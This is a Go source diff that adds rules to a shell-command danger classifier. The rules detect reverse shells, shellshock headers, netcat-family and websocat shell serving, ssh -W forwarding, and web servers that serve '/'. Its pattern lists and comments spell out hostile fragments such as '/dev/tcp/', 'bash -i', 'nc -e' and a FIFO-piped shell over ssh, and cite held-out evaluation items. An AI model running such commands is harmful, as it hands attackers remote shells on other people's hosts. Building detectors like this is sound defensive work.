@@ -1,6 +1,7 @@
 package danger
 
 import (
+	"net/netip"
 	"path"
 	"slices"
 	"strings"
@@ -217,7 +218,7 @@ func (c *checker) shellOverNetwork(s *shell.Script, units [][]unit) {
 			return sshStdioForward(cmd)
 		}
 		if !ok || !netClients[name] || connectsToLoopbackOnly(cmd, name) {
-			return false // connectsToLoopbackOnly: nothing leaves the machine (r10fa.go)
+			return false // connectsToLoopbackOnly: nothing leaves the machine
 		}
 		return name != "openssl" || len(cmd.Args) > 0 && (cmd.Args[0].Lit == "s_client" || cmd.Args[0].Lit == "s_server")
 	}
@@ -289,7 +290,7 @@ func (c *checker) peerShell(u unit) {
 		case isPort(l):
 			port = true
 		case l == "-s" && name == "gs-netcat":
-			port = true // gs-netcat(1) -s: the secret that names a relay's channel, the peer's way in (host9.go)
+			port = true // gs-netcat(1) -s: the secret that names a relay's channel, the peer's way in
 		}
 		opt, val, eq := strings.Cut(strings.TrimLeft(l, "-"), "=")
 		if !strings.HasPrefix(l, "-") || !execOpts[opt] {
@@ -430,4 +431,446 @@ func localWebPort(target string) bool {
 	}
 	port, _, _ = strings.Cut(port, "/")
 	return port != "" && strings.Trim(port, "0123456789") == "" && !shellPorts[port]
+}
+
+// requestPayloadOpts are curl's and wget's options whose value goes into
+// the request: its body, form fields, headers, user agent, cookies.
+var requestPayloadOpts = map[string]bool{
+	"-d": true, "--data": true, "--data-raw": true, "--data-binary": true, "--data-urlencode": true, "--json": true,
+	"-F": true, "--form": true, "-H": true, "--header": true, "-A": true, "--user-agent": true, "-b": true,
+	"--cookie": true, "--post-data": true, "-U": true,
+}
+
+// shellPayloadMarks are the words of a reverse shell or a shellshock
+// prefix: text that makes the host receiving it run a shell.
+var shellPayloadMarks = []string{"/dev/tcp/", "/dev/udp/", "bash -i", "sh -i", "mkfifo", "() {"}
+
+// injectedShellSent flags curl or wget sending a request whose data or
+// headers carry a shell for the receiving host to run (a command
+// injection or shellshock): commands run on another host.
+func (c *checker) injectedShellSent(u unit) {
+	cmd, name, ok := u.program()
+	if !ok || name != "curl" && name != "wget" {
+		return
+	}
+	for i, a := range cmd.Args {
+		if !a.Literal {
+			continue
+		}
+		val := ""
+		opt, v, eq := strings.Cut(a.Lit, "=")
+		switch {
+		case eq && strings.HasPrefix(opt, "--") && requestPayloadOpts[opt]:
+			val = v
+		case requestPayloadOpts[a.Lit] && i+1 < len(cmd.Args) && cmd.Args[i+1].Literal:
+			val = cmd.Args[i+1].Lit
+		default:
+			continue
+		}
+		if slices.ContainsFunc(shellPayloadMarks, func(m string) bool { return strings.Contains(val, m) }) ||
+			strings.Contains(val, "nc ") && strings.Contains(val, " -e ") {
+			c.because(name, a.Lit)
+			c.add(PrivilegeEscalation)
+			return
+		}
+	}
+}
+
+// shellsServed7 flags a shell handed to a network peer by clients the
+// netcat rules do not name (rustcat's "connect -s SHELL", gs-netcat's
+// "-l -i"), and shellshock prefixes sent to another host by HTTPie, xh
+// or nmap's http-shellshock script (a command run there).
+func (c *checker) shellsServed7(u unit) {
+	cmd, name, ok := u.program()
+	if !ok {
+		return
+	}
+	args := cmd.Args
+	switch name {
+	case "rcat", "rustcat":
+		if v := c.verbs(args, 1); len(v) == 1 && v[0] == "connect" && hasLit(args, "-s", "--shell") {
+			c.because(name, "connect", "-s")
+			c.add(NetworkExfiltration)
+		}
+	case "gs-netcat":
+		if hasLit(args, "-l") && hasLit(args, "-i") {
+			c.because(name, "-l", "-i")
+			c.add(NetworkExfiltration)
+		}
+	case "http", "https", "xh", "xhs":
+		// An HTTP client's "Header:value" item that starts with the
+		// nameless function of CVE-2014-6271. Through ssh's command the
+		// labels disagree (heldout5 n0338 everyday: the own account's
+		// restricted login; heldout7 s0087 privilege-escalation): left.
+		for _, a := range args {
+			_, val, _ := strings.Cut(a.Lit, ":")
+			if a.Literal && strings.HasPrefix(strings.TrimSpace(val), "() {") {
+				c.because(name, a.Lit)
+				c.add(PrivilegeEscalation)
+				return
+			}
+		}
+	case "nmap":
+		for i, a := range args {
+			if a.Literal && a.Lit == "--script-args" && i+1 < len(args) && strings.Contains(args[i+1].Lit, "cmd=") &&
+				slices.ContainsFunc(args, func(w shell.Word) bool { return strings.Contains(w.Lit, "shellshock") }) {
+				c.because(name, "http-shellshock", args[i+1].Lit)
+				c.add(PrivilegeEscalation)
+				return
+			}
+		}
+	}
+}
+
+// telnetCurl reports a curl of a telnet:// URL (curl(1)'s TELNET
+// protocol): a raw connection that carries what a peer types, as nc's,
+// not a download.
+func telnetCurl(cmd *shell.Command) bool {
+	return !cmd.Dynamic && path.Base(cmd.Name) == "curl" &&
+		slices.ContainsFunc(cmd.Args, func(a shell.Word) bool { return a.Literal && strings.HasPrefix(a.Lit, "telnet://") })
+}
+
+// websocatShell: websocat's exec:, sh-c: and cmd: specifiers run a
+// program for each peer of the other specifier (its README); a shell
+// there is driven by the peer (README's dev4 call: a shell served is
+// network-exfiltration).
+func (c *checker) websocatShell(u unit) {
+	cmd, name, ok := u.program()
+	if !ok || name != "websocat" {
+		return
+	}
+	for _, a := range cmd.Args {
+		spec, prog, found := strings.Cut(a.Lit, ":")
+		if !a.Literal || !found || spec != "exec" && spec != "sh-c" && spec != "cmd" {
+			continue
+		}
+		if f := strings.Fields(prog); len(f) > 0 && shellProgram(f[0]) {
+			c.because(name, a.Lit)
+			c.add(NetworkExfiltration)
+			return
+		}
+	}
+}
+
+// fileServerProgram reports OpenSSH's sftp-server(8), wherever it is
+// installed (/usr/lib/openssh, /usr/libexec, /usr/lib/ssh): run for a
+// network peer, it gives the peer the file system to read and write as
+// a shell would (heldout11's "gs-netcat -l -e /usr/lib/sftp-server").
+func fileServerProgram(w string) bool {
+	return w[strings.LastIndexAny(w, "/\\")+1:] == "sftp-server"
+}
+
+// sshStdioForward reports ssh -W HOST:PORT (ssh(1): standard input and
+// output forwarded to HOST on PORT over the secure channel): in a
+// shell's pipeline it is the network client of "sh -i | nc HOST PORT"
+// (heldout11's "bash -i </tmp/.p | ssh … -W HOST:PORT … >/tmp/.p").
+func sshStdioForward(cmd *shell.Command) bool {
+	for _, a := range cmd.Args {
+		if a.Lit == "-W" || len(a.Lit) > 2 && strings.HasPrefix(a.Lit, "-W") && strings.Contains(a.Lit, ":") {
+			return true
+		}
+	}
+	return false
+}
+
+// configServer returns the configuration file a web server is started
+// with: nginx(8) -c FILE, lighttpd(8) -f FILE, Apache's httpd|apache2 -f
+// FILE, caddy run|start --config FILE. A configuration test (nginx -t|-T,
+// lighttpd -t|-tt, apache -t) starts nothing.
+func configServer(cmd *shell.Command, name string) (string, bool) {
+	args := cmd.Args
+	opt := ""
+	switch name {
+	case "nginx", "openresty":
+		opt = "-c"
+	case "lighttpd", "httpd", "apache2":
+		opt = "-f"
+	case "caddy":
+		if !firstVerbIn(args, "run", "start") {
+			return "", false
+		}
+		opt = "--config"
+	default:
+		return "", false
+	}
+	if hasLit(args, "-t", "-T", "-tt") {
+		return "", false
+	}
+	for i, a := range args {
+		if a.Lit == opt && i+1 < len(args) && args[i+1].Literal {
+			return args[i+1].Lit, true
+		}
+	}
+	return "", false
+}
+
+// servesRoot reports a server configuration whose document root is "/":
+// nginx's root or alias, lighttpd's server.document-root, Apache's
+// DocumentRoot, Caddy's root [*], each read as a statement between
+// semicolons, braces and line ends.
+func servesRoot(text string) bool {
+	for _, st := range strings.FieldsFunc(text, func(r rune) bool { return r == ';' || r == '{' || r == '}' || r == '\n' }) {
+		f := strings.Fields(st)
+		if len(f) < 2 {
+			continue
+		}
+		switch strings.ToLower(f[0]) {
+		case "root", "alias", "documentroot", "server.document-root":
+			if strings.Trim(f[len(f)-1], `"'`) == "/" {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// configServesRoot: a web server started with a configuration written
+// earlier on the line (cat > FILE <<EOF, tee FILE <<EOF) that serves the
+// file system's root (dev's and heldout's GTFOBins nginx line: "root /;
+// autoindex on; dav_methods PUT;"): every file served to whoever
+// connects, as "python3 -m http.server -d /": network-exfiltration.
+func (c *checker) configServesRoot(u unit) {
+	cmd, name, ok := u.program()
+	if !ok || c.line == nil || c.at >= len(c.line.Commands) {
+		return
+	}
+	conf, ok := configServer(cmd, name)
+	if !ok {
+		return
+	}
+	want := shell.Resolve(conf, u.dir, c.home)
+	earlier := c.earlier()
+	for k := range earlier {
+		w := &earlier[k]
+		n := path.Base(w.Name)
+		text, ok := literalOutput(w, n)
+		targets := []string{}
+		if ok {
+			for _, r := range w.Redirects {
+				if p, ok := shell.PathOf(r.Target); ok && r.Write {
+					targets = append(targets, p)
+				}
+			}
+		} else if n == "tee" && w.Stdin != "" {
+			text = w.Stdin
+			for _, o := range operands(w.Args) {
+				if p, ok := shell.PathOf(o); ok {
+					targets = append(targets, p)
+				}
+			}
+		}
+		for _, t := range targets {
+			if shell.Resolve(t, u.dir, c.home) == want && servesRoot(text) {
+				c.because(name, conf)
+				c.add(NetworkExfiltration)
+				return
+			}
+		}
+	}
+}
+
+func init() {
+	addRuleTexts(map[string]string{
+		"shellsServed7":    "a shell handed to a network peer by rustcat (connect -s) or gs-netcat (-l -i), or a shellshock prefix (() {) sent to another host in an HTTPie/xh header or nmap's http-shellshock cmd argument",
+		"websocatShell":    "websocat running a shell for each peer (exec:, sh-c: or cmd: given sh, bash, …): a shell served over the network",
+		"configServesRoot": "a web server (nginx -c, lighttpd -f, apache2|httpd -f, caddy run --config) started with a configuration written earlier on the line whose document root is /: every file served",
+	})
+}
+
+// printOnlyPrograms read neither their input nor a file: what they print
+// is text of the line or what they make (the date, the uptime, the
+// kernel's name).
+var printOnlyPrograms = map[string]bool{"echo": true, "printf": true, "date": true, "uptime": true, "uname": true, "true": true, "sleep": true}
+
+// printsOnly reports whether script, run for a network peer (nc -c, socat
+// SYSTEM:), only prints what its programs make: every command a
+// print-only program with no redirection, no printed variable (one may
+// hold a secret) and no date -s (which sets the clock).
+func printsOnly(script string) bool {
+	s := shell.Parse(script)
+	if s.Unparseable || len(s.Commands) == 0 {
+		return false
+	}
+	for _, c := range s.Commands {
+		name := path.Base(c.Name)
+		if c.Dynamic || !printOnlyPrograms[name] || len(c.Redirects) > 0 || c.Inner() != nil {
+			return false
+		}
+		for _, a := range c.Args {
+			if name == "date" && a.Literal && (strings.HasPrefix(a.Lit, "-s") || strings.HasPrefix(a.Lit, "--set")) {
+				return false
+			}
+			if !a.Literal {
+				if names, ok := shell.ShownVars(a.Raw); !ok || len(names) > 0 {
+					return false
+				}
+			}
+		}
+	}
+	return true
+}
+
+// ncServed returns the program or shell command a netcat runs for its peer
+// (-e PROG, -ePROG, -c CMD, --exec[=]PROG, --sh-exec[=]CMD) and whether it
+// is literal; --lua-exec's script is not on the line.
+func ncServed(args []shell.Word) (string, bool) {
+	for i, a := range args {
+		if !a.Literal {
+			continue
+		}
+		switch {
+		case a.Lit == "-e" || a.Lit == "-c" || a.Lit == "--exec" || a.Lit == "--sh-exec":
+			if i+1 < len(args) && args[i+1].Literal {
+				return args[i+1].Lit, true
+			}
+			return "", false
+		case strings.HasPrefix(a.Lit, "-e/"):
+			return a.Lit[2:], true
+		case strings.HasPrefix(a.Lit, "--exec="), strings.HasPrefix(a.Lit, "--sh-exec="):
+			_, v, _ := strings.Cut(a.Lit, "=")
+			return v, true
+		}
+	}
+	return "", false
+}
+
+// socketOnlyOpened reports an "exec" with no command that opens a socket
+// on a descriptor of its own (3 and up) in a line that runs nothing else
+// (bash(1): exec's redirections take effect in the current shell): no
+// command writes to the descriptor, so nothing is sent.
+func (c *checker) socketOnlyOpened(u unit, r shell.Redirect) bool {
+	if u.cmd.Name != "exec" || len(u.cmd.Args) > 0 || c.line == nil || len(c.line.Commands) != 1 {
+		return false
+	}
+	fd := strings.TrimRight(r.Op, "<>|&")
+	n := 0
+	for _, d := range fd {
+		if d < '0' || d > '9' {
+			return false
+		}
+		n = n*10 + int(d-'0')
+	}
+	return fd != "" && n >= 3
+}
+
+// netcats are the netcat family's programs (nc(1), ncat(1), netcat,
+// cryptcat), as remoteAccess names them.
+var netcats = []string{"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "cryptcat"}
+
+// relaysOnly reports a command a listener runs for its peer that only
+// connects onward: netcat or socat clients with no program of their own
+// (no -e, -c, --exec, --sh-exec, --lua-exec; no EXEC: or SYSTEM:) and no
+// redirection. The listener and it make a relay, a port forwarded to
+// another host (the Ncat Users' Guide's "--sh-exec 'ncat HOST PORT'"),
+// which the README labels everyday as a tunnel (round 8).
+func relaysOnly(script string) bool {
+	s := shell.Parse(script)
+	if s.Unparseable || len(s.Commands) == 0 {
+		return false
+	}
+	for i := range s.Commands {
+		cmd := &s.Commands[i]
+		name := path.Base(cmd.Name)
+		if cmd.Dynamic || len(cmd.Redirects) > 0 || cmd.Inner() != nil || !slices.Contains(netcats, name) && name != "socat" {
+			return false
+		}
+		for _, a := range cmd.Args {
+			l := strings.ToUpper(a.Lit)
+			if !a.Literal || a.Lit == "-e" || a.Lit == "-c" || strings.HasPrefix(a.Lit, "--exec") || strings.HasPrefix(a.Lit, "--sh-exec") ||
+				strings.HasPrefix(a.Lit, "--lua-exec") || strings.HasPrefix(a.Lit, "-e/") || strings.HasPrefix(l, "EXEC:") || strings.HasPrefix(l, "SYSTEM:") {
+				return false
+			}
+		}
+	}
+	return true
+}
+
+// relayBackChannel reports that every file command i of s reads is
+// written by a redirection of a later command of its pipeline: the FIFO
+// of a netcat relay ("nc -l 8080 0<backpipe | nc HOST 80 1>backpipe",
+// SANS netcat cheat sheet, "Relays"), which carries what the far peer
+// answers, not a file of this machine (round 8).
+func relayBackChannel(s *shell.Script, i int) bool {
+	cmd := &s.Commands[i]
+	if readsDisk(cmd) {
+		return false
+	}
+	read := 0
+	for _, f := range cmd.Files() {
+		if !f.Read {
+			continue
+		}
+		read++
+		fed := false
+		for j := i + 1; j < len(s.Commands) && !fed; j++ {
+			if s.Commands[j].Pipeline != cmd.Pipeline {
+				continue
+			}
+			for _, g := range s.Commands[j].Files() {
+				if g.Write && g.Via == "redirect" && g.Path == f.Path {
+					fed = true
+					break
+				}
+			}
+		}
+		if !fed {
+			return false
+		}
+	}
+	return read > 0
+}
+
+// configKeyLine reports "KEY = VALUE" typed as a command: a program named
+// for a configuration key (fail2ban's actionban, knockd's start_command)
+// with "=" as its first argument, whose value is no option of its own
+// (round 8; TestPrecisionConfigKeyLines).
+func configKeyLine(name string, args []shell.Word) bool {
+	if len(args) == 0 || !args[0].Literal || args[0].Lit != "=" || name == "" {
+		return false
+	}
+	for _, r := range name {
+		if !(r == '_' || r == '-' || r == '.' || r >= '0' && r <= '9' || r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z') {
+			return false
+		}
+	}
+	return true
+}
+
+// loopbackClients are the network clients whose operands are "host port"
+// (telnet(1): "telnet [host [port]]"; nc(1): "nc [options] host port").
+var loopbackClients = map[string]bool{"telnet": true, "nc": true, "ncat": true, "netcat": true, "nc.traditional": true, "nc.openbsd": true}
+
+// connectsToLoopbackOnly reports a telnet or nc whose every word after its
+// options is the loopback ("localhost", 127.0.0.0/8, ::1) or a number (a
+// port, a timeout's value), with one loopback host at least: both ends of
+// its connection are this machine. A word the line does not spell out, or
+// any other word (a host, a proxy's address), may leave it.
+func connectsToLoopbackOnly(cmd *shell.Command, name string) bool {
+	if !loopbackClients[name] {
+		return false
+	}
+	loopback := false
+	for _, a := range cmd.Args {
+		switch {
+		case !a.Literal:
+			return false
+		case strings.HasPrefix(a.Lit, "-"):
+		case strings.Trim(a.Lit, "0123456789") == "":
+		case isLoopbackHost(a.Lit):
+			loopback = true
+		default:
+			return false
+		}
+	}
+	return loopback
+}
+
+// isLoopbackHost reports "localhost" (RFC 6761 §6.3) or a loopback address
+// (127.0.0.0/8, RFC 6890; ::1, RFC 4291), brackets allowed.
+func isLoopbackHost(h string) bool {
+	if strings.EqualFold(h, "localhost") {
+		return true
+	}
+	ip, err := netip.ParseAddr(strings.TrimSuffix(strings.TrimPrefix(h, "["), "]"))
+	return err == nil && ip.IsLoopback()
 }
